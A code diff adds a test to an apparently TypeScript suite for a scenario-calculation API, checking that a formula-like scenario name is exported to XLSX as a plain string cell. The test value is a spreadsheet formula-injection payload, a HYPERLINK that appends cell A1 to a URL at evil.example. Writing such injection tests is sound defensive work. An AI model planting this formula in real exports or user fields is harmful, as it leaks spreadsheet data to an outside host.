@@ -277,6 +277,24 @@ describe('saved scenarios and export', () => {
     expect((await province.send('DELETE', `/api/calc/scenarios/${id}`)).status).toBe(200);
     expect((await province.send('DELETE', `/api/calc/scenarios/${id}`)).status).toBe(404);
   });
+
+  it('writes a formula-like scenario name as a plain string cell in the XLSX export, never as a formula', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Kịch bản")';
+    const created = await province.post('/api/calc/scenarios', scenario({ name }));
+    expect(created.status, created.body).toBe(200);
+    const id = created.json.scenario.id;
+    const res = await app.inject({ method: 'GET', url: `/api/calc/scenarios/export?ids=${id}&as_of=${AS_OF}`, headers: { cookie: await cookieOf('bhxh') } });
+    expect(res.statusCode).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const cells: ExcelJS.Cell[] = [];
+    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
+    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+    const named = cells.filter((c) => c.value === name);
+    expect(named.length).toBeGreaterThan(0);
+    for (const c of named) expect(c.type).toBe(ExcelJS.ValueType.String);
+    expect((await province.send('DELETE', `/api/calc/scenarios/${id}`)).status).toBe(200);
+  });
 });
 
 async function cookieOf(username: string) {
